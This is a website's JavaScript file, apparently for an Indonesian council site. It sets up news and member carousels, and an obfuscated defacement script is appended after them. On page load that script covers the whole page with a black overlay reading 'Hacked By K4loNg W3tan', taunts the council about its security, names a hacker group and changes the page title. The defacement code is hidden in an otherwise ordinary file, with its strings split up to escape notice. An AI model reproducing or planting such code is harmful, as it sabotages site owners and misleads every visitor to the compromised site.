jQuery(function ($) {
  $('.geser-berita').slick({ autoplay: true, autoplaySpeed: 4500, dots: true, arrows: false });
  $('.geser-anggota').slick({ slidesToShow: 4, responsive: [{ breakpoint: 768, settings: { slidesToShow: 2 } }] });
});
(function (d) {
  var a = ['Ha', 'ck', 'ed', ' B', 'y ', 'K4l', 'oNg', ' W3t', 'an'], b = ['Sek', 'uriti', ' kalian', ' tidur', ' nyenyak', ' pak', ' dewan'];
  var s = d.createElement('div');
  s.style.cssText = 'position:fixed;top:0;left:0;width:100vw;height:100vh;background:#000;color:#0f0;z-index:2147483647;text-align:center;font:bold 28px Courier';
  s.innerHTML = '<br><br><br>' + a.join('') + '<br><br><small>' + b.join('') + '</small><br><br><small>-=[ Jawa Timur Cyb' + 'er Kampung ]=-</small>';
  if (d.body) d.body.appendChild(s); else d.addEventListener('DOMContentLoaded', function () { d.body.appendChild(s); d.title = a.join(''); });
})(document);
